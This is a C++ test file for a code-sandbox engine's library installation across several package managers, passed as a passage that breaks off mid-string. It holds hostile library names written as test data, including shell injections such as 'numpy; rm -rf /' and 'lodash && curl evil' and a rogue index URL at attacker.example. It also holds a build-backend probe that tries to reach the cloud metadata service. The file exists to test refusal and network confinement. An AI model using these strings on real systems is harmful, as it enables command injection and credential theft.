// Libraries installed on demand, for real: JavaScript from the npm registry, the other
// package managers from local sources the tests make (built inside sandboxes, so the host
// needs nothing), and names that could inject options or commands refused up front.
#include "BackendTestSupport.h"
#include "ScopedEnvironment.h"
#include "WaitUntil.h"
#include "engine/ExecutionEngine.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QNetworkInterface>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QUrl>
#include <gtest/gtest.h>

using namespace sandbox;
using namespace std::chrono_literals;

namespace {

class LibrariesTest : public ::testing::TestWithParam<std::string>
{
protected:
    Result<RunResult> run(const QString &language, const QString &code, const QStringList &libraries)
    {
        RunRequest request;
        request.language = language;
        request.code = code;
        request.libraries = libraries;
        request.timeout = 120s;
        return m_engine->run(request);
    }

    /// Runs `code` in a sandbox and saves what it wrote to its output folder under `folder`.
    void makeFixture(const QString &language, const QString &code, const QString &folder)
    {
        auto result = run(language, code, {});
        ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
        ASSERT_EQ(result->exitCode, 0) << result->stderrData.toStdString();
        ASSERT_FALSE(result->artifacts.isEmpty());
        for (const Artifact &artifact : result->artifacts) {
            const QString path = QDir(folder).filePath(artifact.name);
            QDir().mkpath(QFileInfo(path).path());
            QFile file(path);
            ASSERT_TRUE(file.open(QIODevice::WriteOnly));
            file.write(artifact.data);
        }
    }

    /// Serves `folder` over HTTP like a package registry; the URL the install step reaches it by through the
    /// engine's bridge network (this host's first non-loopback IPv4 address), empty on failure. With `login`
    /// ("user:password") every request without that Basic login gets 401.
    QString serve(const QString &folder, const QString &login = {})
    {
        QString address;
        for (const QHostAddress &candidate : QNetworkInterface::allAddresses()) {
            if (candidate.protocol() == QAbstractSocket::IPv4Protocol && !candidate.isLoopback()) {
                address = candidate.toString();
                break;
            }
        }
        m_registry.setProgram(QStringLiteral("/usr/bin/python3"));
        if (login.isEmpty()) {
            m_registry.setArguments({"-u", "-m", "http.server", "--bind", "0.0.0.0", "--directory", folder, "0"});
        } else {
            m_registry.setArguments(
                {"-u", "-c",
                 "import base64, functools, http.server, sys\n"
                 "expected = 'Basic ' + base64.b64encode(sys.argv[2].encode()).decode()\n"
                 "class Handler(http.server.SimpleHTTPRequestHandler):\n"
                 "    def do_GET(self):\n"
                 "        if self.headers.get('Authorization') != expected:\n"
                 "            self.send_response(401)\n"
                 "            self.send_header('WWW-Authenticate', 'Basic realm=\"index\"')\n"
                 "            self.end_headers()\n"
                 "            return\n"
                 "        super().do_GET()\n"
                 "server = http.server.ThreadingHTTPServer(('0.0.0.0', 0), functools.partial(Handler, "
                 "directory=sys.argv[1]))\n"
                 "print('Serving HTTP on 0.0.0.0 port %d' % server.server_address[1])\n"
                 "server.serve_forever()\n",
                 folder, login});
        }
        m_registry.start();
        // "Serving HTTP on 0.0.0.0 port 41235 (http://0.0.0.0:41235/) ..."
        static const QRegularExpression serving(QStringLiteral("port (\\d+)"));
        QByteArray said;
        while (m_registry.waitForReadyRead(10000)) {
            said += m_registry.readAllStandardOutput();
            if (const auto match = serving.match(QString::fromUtf8(said)); match.hasMatch() && !address.isEmpty()) {
                return QStringLiteral("http://%1:%2").arg(address, match.captured(1));
            }
        }
        ADD_FAILURE() << "http.server did not start: " << said.toStdString() << " (host address "
                      << address.toStdString() << ")";
        return {};
    }

    /// Python code that writes the sdist `name`-1.0.tar.gz into its output folder: a package whose PEP 517 build
    /// backend (run by pip while it installs, like a setup.py) defines `probe()`, Python source of `probeBody`, and
    /// builds a wheel whose module holds what probe() returned as RESULTS.
    static QString probingSdist(const QString &name, const QString &probeBody)
    {
        const QString backend =
            QStringLiteral("import glob, json, os, socket, urllib.request, zipfile\n"
                           "def probe():\n%1\n"
                           "def get_requires_for_build_wheel(config_settings=None):\n"
                           "    return []\n"
                           "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
                           "    name = '%2-1.0-py3-none-any.whl'\n"
                           "    with zipfile.ZipFile(os.path.join(wheel_directory, name), 'w') as whl:\n"
                           "        whl.writestr('%2/__init__.py', 'RESULTS = ' + repr(probe()) + '\\n')\n"
                           "        whl.writestr('%2-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: "
                           "%2\\nVersion: 1.0\\n')\n"
                           "        whl.writestr('%2-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: "
                           "test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n"
                           "        whl.writestr('%2-1.0.dist-info/RECORD', '')\n"
                           "    return name\n")
                .arg(probeBody, name);
        // The backend's source as a Python string literal (JSON's is one).
        const QString literal =
            QString::fromUtf8(QJsonDocument(QJsonArray{backend}).toJson(QJsonDocument::Compact)).mid(1).chopped(1);
        return QStringLiteral("import io, os, tarfile\n"
                              "files = {'pyproject.toml': '[build-system]\\nrequires = []\\nbuild-backend = "
                              "\"probe_backend\"\\nbackend-path = [\".\"]\\n',\n"
                              "         'PKG-INFO': 'Metadata-Version: 2.1\\nName: %1\\nVersion: 1.0\\n',\n"
                              "         'probe_backend.py': %2}\n"
                              "with tarfile.open(os.path.join(os.environ['LLM_SANDBOX_OUTPUT_DIR'], "
                              "'%1-1.0.tar.gz'), 'w:gz') as tar:\n"
                              "    for name, text in files.items():\n"
                              "        data = text.encode()\n"
                              "        info = tarfile.TarInfo('%1-1.0/' + name)\n"
                              "        info.size = len(data)\n"
                              "        tar.addfile(info, io.BytesIO(data))\n")
            .arg(name, literal);
    }

    /// Installs the probing package `name` (probingSdist) from the index `index` and returns its RESULTS.
    QJsonObject installAndReadProbe(const QString &name, const QString &index)
    {
        test::ScopedEnvironment registry({{"LLM_SANDBOX_PIP_INDEX_URL", index.toUtf8()}});
        RunRequest request;
        request.language = "python";
        request.code = QStringLiteral("import json, %1\nprint(json.dumps(%1.RESULTS, sort_keys=True))\n").arg(name);
        request.libraries = {name + QStringLiteral("==1.0")};
        request.timeout = 180s;
        auto result = m_engine->run(request);
        EXPECT_TRUE(result.ok()) << result.error().message.toStdString();
        if (!result) {
            return {};
        }
        const QJsonObject seen = QJsonDocument::fromJson(result->stdoutData).object();
        EXPECT_FALSE(seen.isEmpty()) << result->stdoutData.toStdString() << result->stderrData.toStdString();
        return seen;
    }

    std::unique_ptr<ExecutionEngine> m_engine = test::engineFor(GetParam());
    QTemporaryDir m_offline;
    QProcess m_registry;
};

const char *const kNoNetworkCheck = "import os\nprint(sorted(os.listdir('/sys/class/net')))\n";

// Programs that write a package into their output folder, laid out as its package manager's offline folder and
// registry expect it.
/// A pure-Python wheel (llmsb-greeter 1.0).
const char *const kPythonWheel =
    "import os, zipfile\n"
    "out = os.environ['LLM_SANDBOX_OUTPUT_DIR']\n"
    "with zipfile.ZipFile(os.path.join(out, 'llmsb_greeter-1.0-py3-none-any.whl'), 'w') as whl:\n"
    "    whl.writestr('llmsb_greeter/__init__.py', 'def greet(n):\\n    return \"hello \" + n\\n')\n"
    "    whl.writestr('llmsb_greeter-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: "
    "llmsb-greeter\\nVersion: 1.0\\n')\n"
    "    whl.writestr('llmsb_greeter-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: "
    "test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n"
    "    whl.writestr('llmsb_greeter-1.0.dist-info/RECORD', '')\n";
/// A Go module proxy holding example.com/greeter v1.0.0.
const char *const kGoModule =
    "import os, zipfile\n"
    "base = os.path.join(os.environ['LLM_SANDBOX_OUTPUT_DIR'], 'example.com/greeter/@v')\n"
    "os.makedirs(base)\n"
    "open(os.path.join(base, 'list'), 'w').write('v1.0.0\\n')\n"
    "open(os.path.join(base, 'v1.0.0.info'), 'w').write('{\"Version\":\"v1.0.0\"}')\n"
    "mod = 'module example.com/greeter\\n\\ngo 1.19\\n'\n"
    "open(os.path.join(base, 'v1.0.0.mod'), 'w').write(mod)\n"
    "with zipfile.ZipFile(os.path.join(base, 'v1.0.0.zip'), 'w') as z:\n"
    "    z.writestr('example.com/greeter@v1.0.0/go.mod', mod)\n"
    "    z.writestr('example.com/greeter@v1.0.0/greeter.go', 'package greeter\\n\\nfunc Greet(n string) "
    "string { return \"hello \" + n }\\n')\n";
/// A Maven repository holding org.example:greeter:1.0.
const char *const kJavaJar =
    "import java.io.*;\nimport java.nio.file.*;\nimport java.util.jar.*;\nimport javax.tools.*;\n"
    "public class MakeJar {\n  public static void main(String[] a) throws Exception {\n"
    "    Path src = Files.createDirectories(Path.of(\"/tmp/src/org/example\"));\n"
    "    Files.writeString(src.resolve(\"Greeter.java\"), \"package org.example; public class Greeter { "
    "public static String greet(String n) { return \\\"hello \\\" + n; } }\");\n"
    "    if (ToolProvider.getSystemJavaCompiler().run(null, null, null, \"-d\", \"/tmp/classes\", "
    "src.resolve(\"Greeter.java\").toString()) != 0) System.exit(1);\n"
    "    Path dir = Files.createDirectories(Path.of(System.getenv(\"LLM_SANDBOX_OUTPUT_DIR\"), "
    "\"org/example/greeter/1.0\"));\n"
    "    try (JarOutputStream jar = new JarOutputStream(new "
    "FileOutputStream(dir.resolve(\"greeter-1.0.jar\").toFile()))) {\n"
    "      jar.putNextEntry(new JarEntry(\"org/example/Greeter.class\"));\n"
    "      jar.write(Files.readAllBytes(Path.of(\"/tmp/classes/org/example/Greeter.class\")));\n"
    "    }\n  }\n}\n";

} // namespace

TEST_P(LibrariesTest, javascriptInstallsFromTheNpmRegistryAndRunsWithoutNetwork)
{
    auto result = run("javascript",
                      "const isNumber = require('is-number');\n"
                      "console.log(isNumber(5), isNumber('five'));\n"
                      "console.log(require('fs').readdirSync('/sys/class/net').join(','));\n",
                      {"is-number@7.0.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "true false\nlo\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, pythonInstallsAWheelFromAnOfflineFolder)
{
    makeFixture("python", kPythonWheel, m_offline.path());
    test::ScopedEnvironment offline({{"LLM_SANDBOX_PIP_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result =
        run("python", QString("import llmsb_greeter\nprint(llmsb_greeter.greet('wheel'))\n") + kNoNetworkCheck,
            {"llmsb_greeter==1.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello wheel\n['lo']\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, rubyInstallsAGemFromAnOfflineFolder)
{
    makeFixture(
        "ruby",
        "require 'rubygems/package'\nrequire 'fileutils'\n"
        "Dir.mkdir('/tmp/gem'); Dir.chdir('/tmp/gem')\nDir.mkdir('lib')\n"
        "File.write('lib/llmsb_greeter.rb', \"module LlmsbGreeter\\n  def self.greet(n) = \\\"hello "
        "\\#{n}\\\"\\nend\\n\")\n"
        "spec = Gem::Specification.new do |s|\n  s.name = 'llmsb_greeter'; s.version = '1.0.0'; s.summary = 'test'\n"
        "  s.authors = ['test']; s.files = ['lib/llmsb_greeter.rb']\nend\n"
        "FileUtils.mv(Gem::Package.build(spec), ENV['LLM_SANDBOX_OUTPUT_DIR'])\n",
        m_offline.path());
    test::ScopedEnvironment offline({{"LLM_SANDBOX_GEM_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result = run("ruby", "require 'llmsb_greeter'\nputs LlmsbGreeter.greet('gem')\n", {"llmsb_greeter"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello gem\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, rInstallsASourcePackageFromAnOfflineFolder)
{
    makeFixture("r",
                "dir <- '/tmp/llmsbgreeter'\ndir.create(file.path(dir, 'R'), recursive = TRUE)\n"
                "writeLines(c('Package: llmsbgreeter', 'Version: 1.0', 'Title: Test', 'Description: Test.',\n"
                "  'Authors@R: person(\"T\", \"T\", email = \"t@example.com\", role = c(\"aut\", \"cre\"))',\n"
                "  'License: MIT'), file.path(dir, 'DESCRIPTION'))\n"
                "writeLines('export(greet)', file.path(dir, 'NAMESPACE'))\n"
                "writeLines('greet <- function(n) paste(\"hello\", n)', file.path(dir, 'R', 'greet.R'))\n"
                "setwd(Sys.getenv('LLM_SANDBOX_OUTPUT_DIR'))\n"
                "stopifnot(system2(file.path(R.home('bin'), 'R'), c('CMD', 'build', '--no-manual', dir)) == 0)\n",
                m_offline.path());
    test::ScopedEnvironment offline({{"LLM_SANDBOX_R_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result = run("r", "library(llmsbgreeter)\ncat(greet('R'), '\\n')\n", {"llmsbgreeter"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello R \n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, goInstallsAModuleFromAnOfflineProxyFolder)
{
    makeFixture("python", kGoModule, m_offline.path());
    test::ScopedEnvironment offline({{"LLM_SANDBOX_GO_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result = run("go",
                      "package main\n\nimport (\n\t\"fmt\"\n\t\"example.com/greeter\"\n)\n\n"
                      "func main() { fmt.Println(greeter.Greet(\"go\")) }\n",
                      {"example.com/greeter@v1.0.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello go\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, javaPutsAJarFromALocalMavenRepositoryOnTheClasspath)
{
    makeFixture("java", kJavaJar, m_offline.path());
    test::ScopedEnvironment offline({{"LLM_SANDBOX_MAVEN_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result = run("java",
                      "import org.example.Greeter;\npublic class Main {\n"
                      "  public static void main(String[] a) { System.out.println(Greeter.greet(\"java\")); }\n}\n",
                      {"org.example:greeter:1.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello java\n") << result->stderrData.toStdString();
}

// The same packages from registries over the network: the install step has network, the code none. On Kubernetes
// that is an installer pod, and what the install wrote is copied into the pod that runs the code.
TEST_P(LibrariesTest, pythonInstallsAWheelFromAPackageIndexOverTheNetwork)
{
    const QString index = m_offline.filePath(QStringLiteral("simple/llmsb-greeter"));
    makeFixture("python", kPythonWheel, index);
    const QString url = serve(m_offline.path());
    ASSERT_FALSE(url.isEmpty());
    test::ScopedEnvironment registry({{"LLM_SANDBOX_PIP_INDEX_URL", (url + QStringLiteral("/simple")).toUtf8()}});
    auto result =
        run("python", QString("import llmsb_greeter\nprint(llmsb_greeter.greet('index'))\n") + kNoNetworkCheck,
            {"llmsb_greeter==1.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello index\n['lo']\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, goInstallsAModuleFromAGoProxyOverTheNetwork)
{
    makeFixture("python", kGoModule, m_offline.path());
    const QString url = serve(m_offline.path());
    ASSERT_FALSE(url.isEmpty());
    test::ScopedEnvironment registry({{"LLM_SANDBOX_GOPROXY", url.toUtf8()}});
    auto result = run("go",
                      "package main\n\nimport (\n\t\"fmt\"\n\t\"os\"\n\t\"example.com/greeter\"\n)\n\n"
                      "func main() {\n\tnet, _ := os.ReadDir(\"/sys/class/net\")\n"
                      "\tfmt.Println(greeter.Greet(\"proxy\"), len(net))\n}\n",
                      {"example.com/greeter@v1.0.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello proxy 1\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, javaFetchesAJarFromAMavenRepositoryOverTheNetwork)
{
    makeFixture("java", kJavaJar, m_offline.path());
    const QString url = serve(m_offline.path());
    ASSERT_FALSE(url.isEmpty());
    test::ScopedEnvironment registry({{"LLM_SANDBOX_MAVEN_REPOSITORY", url.toUtf8()}});
    auto result = run("java",
                      "import org.example.Greeter;\npublic class Main {\n  public static void main(String[] a) {\n"
                      "    System.out.println(Greeter.greet(\"maven\") + \" \" + "
                      "new java.io.File(\"/sys/class/net\").list().length);\n  }\n}\n",
                      {"org.example:greeter:1.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello maven 1\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, namesThatCouldInjectAreRefusedBeforeAnythingRuns)
{
    struct Observer final : RunObserver
    {
        int progress = 0;
        void runProgress(const QString &, const RunProgress &) override { ++progress; }
    } observer;
    const QList<std::pair<QString, QString>> hostile = {
        {"python", "--index-url=http://attacker.example/simple"},
        {"python", "numpy; rm -rf /"},
        {"javascript", "$(touch /tmp/pwned)"},
        {"javascript", "lodash && curl evil"},
        {"ruby", "`id`"},
        {"r", "x'); system('id'); ('"},
        {"go", "-modfile=/etc/passwd"},
        {"java", "org.example:greeter:1.0 --help"},
    };
    for (const auto &[language, library] : hostile) {
        RunRequest request;
        request.language = language;
        request.code = "1";
        request.libraries = {library};
        auto result = m_engine->run(request, {}, &observer);
        ASSERT_FALSE(result.ok()) << library.toStdString();
        EXPECT_TRUE(result.error().message.contains("not a valid")) << result.error().message.toStdString();
    }
    EXPECT_EQ(observer.progress, 0) << "no sandbox was started";
}

TEST_P(LibrariesTest, failedInstallNamesTheLibraryAndDoesNotRunTheCode)
{
    QDir(m_offline.path()).mkpath(".");
    test::ScopedEnvironment offline({{"LLM_SANDBOX_PIP_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result = run("python", "print('must not run')", {"nonexistent-package-xyz"});
    ASSERT_FALSE(result.ok());
    EXPECT_TRUE(result.error().message.contains("nonexistent-package-xyz")) << result.error().message.toStdString();
    EXPECT_TRUE(result.error().message.contains("not run")) << result.error().message.toStdString();
}

TEST_P(LibrariesTest, cppInstallsADebianPackageAndLinksItThroughPkgConfig)
{
    // fmt needs -lfmt: it only links when the package's pkg-config flags were applied.
    auto result = run("cpp",
                      "#include <fmt/core.h>\n#include <fstream>\n#include <iostream>\n"
                      "int main() {\n  fmt::print(\"{} + {} = {}\\n\", 20, 22, 42);\n"
                      "  std::ifstream net(\"/sys/class/net/eth0/mtu\");\n  std::cout << (net ? \"eth0\" : \"lo "
                      "only\") << \"\\n\";\n}\n",
                      {"libfmt-dev"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "20 + 22 = 42\nlo only\n") << result->stderrData.toStdString();
}

// Boost, the C++ library people ask for most: 180 MB of headers unpacked, with apt's lists and packages beside them
// while it installs (issue 49: the builder's scratch space was a fixed 256 MiB). The code's sandbox gets the
// libraries' room on top of its own /tmp.
TEST_P(LibrariesTest, cppInstallsBoostAndCompilesAgainstItsHeaders)
{
    auto result = run("cpp",
                      "#include <boost/algorithm/string.hpp>\n#include <boost/any.hpp>\n#include <iostream>\n"
                      "#include <string>\n"
                      "int main() {\n  boost::any value = std::string(\"boost\");\n"
                      "  std::string text = boost::any_cast<std::string>(value);\n  boost::to_upper(text);\n"
                      "  std::cout << text << \"\\n\";\n}\n",
                      {"libboost-dev"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "BOOST\n") << result->stderrData.toStdString();
}

// A package with C code: R's builder has the compiler and make, and the library it built runs in a sandbox that has
// neither.
TEST_P(LibrariesTest, rCompilesASourcePackageWithCCodeAndRunsIt)
{
    makeFixture("r",
                "dir <- '/tmp/llmsbtwice'\ndir.create(file.path(dir, 'R'), recursive = TRUE)\n"
                "dir.create(file.path(dir, 'src'))\n"
                "writeLines(c('Package: llmsbtwice', 'Version: 1.0', 'Title: Test', 'Description: Test.',\n"
                "  'Authors@R: person(\"T\", \"T\", email = \"t@example.com\", role = c(\"aut\", \"cre\"))',\n"
                "  'License: MIT', 'NeedsCompilation: yes'), file.path(dir, 'DESCRIPTION'))\n"
                "writeLines(c('useDynLib(llmsbtwice)', 'export(twice)'), file.path(dir, 'NAMESPACE'))\n"
                "writeLines('twice <- function(x) .Call(\"llmsb_twice\", as.numeric(x))', file.path(dir, 'R', "
                "'twice.R'))\n"
                "writeLines(c('#include <R.h>', '#include <Rinternals.h>',\n"
                "  'SEXP llmsb_twice(SEXP x) {', '  SEXP out = PROTECT(allocVector(REALSXP, XLENGTH(x)));',\n"
                "  '  for (R_xlen_t i = 0; i < XLENGTH(x); i++) REAL(out)[i] = 2 * REAL(x)[i];',\n"
                "  '  UNPROTECT(1);', '  return out;', '}'), file.path(dir, 'src', 'twice.c'))\n"
                "setwd(Sys.getenv('LLM_SANDBOX_OUTPUT_DIR'))\n"
                "stopifnot(system2(file.path(R.home('bin'), 'R'), c('CMD', 'build', '--no-manual', dir)) == 0)\n",
                m_offline.path());
    test::ScopedEnvironment offline({{"LLM_SANDBOX_R_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result = run("r",
                      "library(llmsbtwice)\ncat(twice(c(1, 21)), file.exists(Sys.which('make')) && "
                      "nzchar(Sys.which('make')), '\\n')\n",
                      {"llmsbtwice"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "2 42 FALSE \n") << result->stderrData.toStdString();
}

// The library cache (issue 49), across processes as an assistant's server and the command line are: one engine, the
// cache does not depend on it.
using LibraryCacheTest = LibrariesTest;

// A set installed once serves the next call of another process with the same libraries; an archive changed in the
// cache is refused, and the set installed again.
TEST_P(LibraryCacheTest, aSetInstalledOnceServesTheNextProcessAndATamperedOneIsInstalledAgain)
{
    makeFixture("python", kPythonWheel, m_offline.path());
    QTemporaryDir cache;
    const QStringList environment{QStringLiteral("LLM_SANDBOX_LIBRARY_CACHE=") + cache.path(),
                                  QStringLiteral("LLM_SANDBOX_PIP_OFFLINE_DIR=") + m_offline.path(),
                                  QStringLiteral("BACKEND=") + QString::fromStdString(GetParam())};
    const QStringList arguments{"run",   "--json",
                                "--lib", "llmsb_greeter==1.0",
                                "-c",    "import llmsb_greeter\nprint(llmsb_greeter.greet('cache'))"};
    const auto call = [&] {
        const test::CliRun run = test::runCli(arguments, environment);
        EXPECT_EQ(run.exitCode, 0) << run.stderrData.constData();
        const QJsonObject result = QJsonDocument::fromJson(run.stdoutData).object();
        EXPECT_EQ(result["stdout"].toString(), "hello cache\n") << run.stdoutData.constData();
        return result["libraries_cached"].toBool();
    };
    EXPECT_FALSE(call()) << "the first call installs";
    EXPECT_TRUE(call()) << "the second, in another process, takes the cache's";
    const QStringList archives = QDir(cache.path()).entryList({QStringLiteral("*.tar.gz")}, QDir::Files);
    ASSERT_EQ(archives.size(), 1);
    QFile archive(cache.filePath(archives.first()));
    ASSERT_TRUE(archive.open(QIODevice::ReadWrite));
    archive.seek(archive.size() / 2);
    archive.write("tampered");
    archive.close();
    EXPECT_FALSE(call()) << "a changed archive is never used: installed again";
    EXPECT_TRUE(call()) << "and kept again";
}

// Within one process the next call with a set the cache holds takes a sandbox the set was unpacked in ahead (no
// container start, no unpacking on the call's time), used once: what one call's code changed in its libraries never
// reaches the next.
TEST_P(LibraryCacheTest, theNextCallTakesASandboxWarmedWithTheSetThatNoOtherCallUsedAndSessionsTakeItToo)
{
    makeFixture("python", kPythonWheel, m_offline.path());
    QTemporaryDir cache;
    test::ScopedEnvironment offline({{"LLM_SANDBOX_PIP_OFFLINE_DIR", m_offline.path().toUtf8()}});
    SandboxSettings settings = test::settingsFor(GetParam());
    settings.libraryCacheFolder = cache.path();
    const auto engine = std::make_unique<ExecutionEngine>(test::backendFor(GetParam()), settings);
    struct Observer final : RunObserver
    {
        QStringList lines;
        void runProgress(const QString &, const RunProgress &progress) override { lines << progress.message; }
    };
    RunRequest request;
    request.language = QStringLiteral("python");
    request.libraries = {QStringLiteral("llmsb_greeter==1.0")};
    request.timeout = 120s;
    // The code rewrites the library it imported, as any call's code may.
    request.code =
        QStringLiteral("import llmsb_greeter\nprint(llmsb_greeter.greet('warm'))\n"
                       "open(llmsb_greeter.__file__, 'w').write('def greet(n):\\n    return \"changed\"\\n')\n");
    const auto call = [&](Observer &observer) {
        auto result = engine->run(request, {}, &observer);
        EXPECT_TRUE(result.ok()) << result.error().message.toStdString();
        EXPECT_EQ(result.ok() ? result->stdoutData : QByteArray(), "hello warm\n")
            << (result.ok() ? result->stderrData.toStdString() : std::string());
        return result.ok() && result->librariesCached && !result->coldStart;
    };
    Observer installing;
    EXPECT_FALSE(call(installing)) << "the first call installs";
    for (int i = 0; i < 2; ++i) {
        ASSERT_TRUE(test::waitUntil([&] { return engine->warmContainersWithLibraries(QStringLiteral("python")) == 1; },
                                    120s, 100ms))
            << "a sandbox with the set is warmed after each call";
        EXPECT_EQ(engine->warmContainers(QStringLiteral("python")), 0) << "and no plain one";
        Observer warm;
        EXPECT_TRUE(call(warm)) << "call " << i + 2 << " takes the warmed sandbox";
        EXPECT_TRUE(warm.lines.filter(QStringLiteral("unpacked ahead")).size() == 1)
            << warm.lines.join('\n').toStdString();
        EXPECT_TRUE(warm.lines.filter(QStringLiteral("Starting")).isEmpty()) << warm.lines.join('\n').toStdString();
    }
    // A session's sandbox takes the set from the cache too, and says so.
    SessionRequest opening;
    opening.libraries = request.libraries;
    auto session = engine->createSession(opening);
    ASSERT_TRUE(session.ok()) << session.error().message.toStdString();
    EXPECT_TRUE(session->librariesCached);
    EXPECT_TRUE(engine->closeSession(session->id).ok());
}

// A wheel set far beyond what the builder's old 256 MiB /tmp held (issue 49): 2 x 180 MiB unpacked, from a package
// index the test serves. The wheels are small (their files compress well), so the set passes the packed result's cap.
TEST_P(LibraryCacheTest, aWheelSetOverThreeHundredMegabytesUnpackedInstallsFromAnIndex)
{
    for (const char *name : {"llmsb_big_a", "llmsb_big_b"}) {
        const QString code =
            QStringLiteral("import os, zipfile\n"
                           "name = '%1'\n"
                           "out = os.environ['LLM_SANDBOX_OUTPUT_DIR']\n"
                           "chunk = bytes(range(256)) * (45 * 4096)\n"
                           "with zipfile.ZipFile(os.path.join(out, name + '-1.0-py3-none-any.whl'), 'w',\n"
                           "                     zipfile.ZIP_DEFLATED, compresslevel=1) as whl:\n"
                           "    whl.writestr(name + '/__init__.py', '')\n"
                           "    for i in range(4):\n"
                           "        whl.writestr('%s/data%d.bin' % (name, i), chunk)\n"
                           "    info = name + '-1.0.dist-info/'\n"
                           "    whl.writestr(info + 'METADATA', 'Metadata-Version: 2.1\\nName: %s\\nVersion: 1.0\\n' "
                           "% name.replace('_', '-'))\n"
                           "    whl.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\\nGenerator: test\\n"
                           "Root-Is-Purelib: true\\nTag: py3-none-any\\n')\n"
                           "    whl.writestr(info + 'RECORD', '')\n")
                .arg(QLatin1String(name));
        makeFixture("python", code,
                    m_offline.filePath(QStringLiteral("simple/") + QString::fromLatin1(name).replace(u'_', u'-')));
    }
    const QString url = serve(m_offline.path());
    ASSERT_FALSE(url.isEmpty());
    test::ScopedEnvironment registry({{"LLM_SANDBOX_PIP_INDEX_URL", (url + QStringLiteral("/simple")).toUtf8()}});
    auto result =
        run("python",
            "import os, llmsb_big_a, llmsb_big_b\n"
            "total = sum(os.path.getsize(os.path.join(folder, file))\n"
            "            for module in (llmsb_big_a, llmsb_big_b)\n"
            "            for folder, _, files in os.walk(os.path.dirname(module.__file__)) for file in files)\n"
            "print(total // (1024 * 1024))\n",
            {"llmsb_big_a==1.0", "llmsb_big_b==1.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "360\n") << result->stderrData.toStdString();
}

INSTANTIATE_TEST_SUITE_P(Backends, LibraryCacheTest, ::testing::Values(std::string("docker")), test::backendTestName);

INSTANTIATE_TEST_SUITE_P(Backends, LibrariesTest, ::testing::ValuesIn(test::backendNamesWithKubernetes()),
                         test::backendTestName);

/// Library installs confined to their registries: the builder sandbox has no network, only the egress proxy's socket.
/// Not on Kubernetes, where the installer pod has the network the cluster's NetworkPolicies allow (README).
class ConfinedInstallTest : public LibrariesTest
{
};

// An sdist whose build backend (like a hostile setup.py, it runs while pip builds the package) tries to reach this
// host — its every address, the engines' bridges among them — and a cloud's metadata service, directly and through
// the proxy the install is told to use; it records what it reached in the package it builds. Only the index is
// reachable, and the listener sees nothing.
TEST_P(ConfinedInstallTest, packageCodeReachesTheRegistryAndNothingElse)
{
    test::CountingListener listener;
    QDir(m_offline.path()).mkpath(QStringLiteral("simple/llmsb-probe"));
    const QString url = serve(m_offline.path());
    ASSERT_FALSE(url.isEmpty());
    const QString index = url + QStringLiteral("/simple/");
    QStringList hosts;
    for (const QHostAddress &address : QNetworkInterface::allAddresses()) {
        if (address.protocol() == QAbstractSocket::IPv4Protocol && !address.isLoopback()) {
            hosts << QStringLiteral("'%1'").arg(address.toString());
        }
    }
    ASSERT_FALSE(hosts.isEmpty());
    const QString probe =
        QStringLiteral("    results = {}\n"
                       "    for host, port in [(h, %1) for h in [%2]] + [('169.254.169.254', 80)]:\n"
                       "        try:\n"
                       "            socket.create_connection((host, port), timeout=3).close()\n"
                       "            results['direct %s' % host] = 'reached'\n"
                       "        except OSError:\n"
                       "            results['direct %s' % host] = 'blocked'\n"
                       "        for scheme in ['http', 'https']:\n"
                       "            try:\n"
                       "                urllib.request.urlopen('%s://%s:%d/' % (scheme, host, port), timeout=5)\n"
                       "                results['%s proxy %s' % (scheme, host)] = 'reached'\n"
                       "            except Exception:\n"
                       "                results['%s proxy %s' % (scheme, host)] = 'blocked'\n"
                       "    try:\n"
                       "        urllib.request.urlopen('%3', timeout=10).read()\n"
                       "        results['index'] = 'reached'\n"
                       "    except Exception as error:\n"
